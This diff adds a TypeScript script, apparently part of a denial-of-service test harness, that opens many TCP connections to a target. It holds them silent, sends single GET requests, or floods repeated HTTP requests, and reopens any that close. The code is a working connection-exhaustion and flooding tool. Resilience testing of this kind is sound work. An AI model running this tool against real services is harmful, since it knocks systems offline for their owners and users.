@@ -1,0 +1,31 @@
+// Run in the attacker's network namespace, with an Attack in JSON: keeps connections open that read nothing, and after
+// a while opens those anew that are closed. Writes a line when as many have been opened as it is to hold, until its stdin ends.
+import { createConnection } from "node:net";
+import type { Attack } from "./attack.ts";
+
+const attack: Attack = JSON.parse(process.argv[2] ?? "");
+let opened = 0;
+
+for (let index = 0; index < attack.count; index++) open(index);
+process.stdin.on("end", () => process.exit()).resume();
+
+function open(index: number): void {
+  const port = attack.ports[index % attack.ports.length] ?? 0;
+  const localAddress = attack.sources[index % attack.sources.length] ?? "";
+  // As long as nobody listens to its data, a socket takes no more than a buffer of them.
+  const socket = createConnection({ host: attack.to, port, localAddress });
+  socket.on("error", () => undefined);
+  socket.once("close", () => setTimeout(() => open(index), 3000));
+  socket.once("connect", () => {
+    opened += 1;
+    if (opened === attack.count) process.stdout.write("opened\n");
+    if (attack.kind === "silence") return;
+    const request = `GET ${attack.path} HTTP/1.1\r\nHost: here\r\n\r\n`;
+    const text = attack.kind === "flood" ? request.repeat(1000) : request;
+    const send = () => {
+      while (!socket.destroyed && socket.write(text) && attack.kind === "flood");
+    };
+    socket.on("drain", () => attack.kind === "flood" && send());
+    send();
+  });
+}
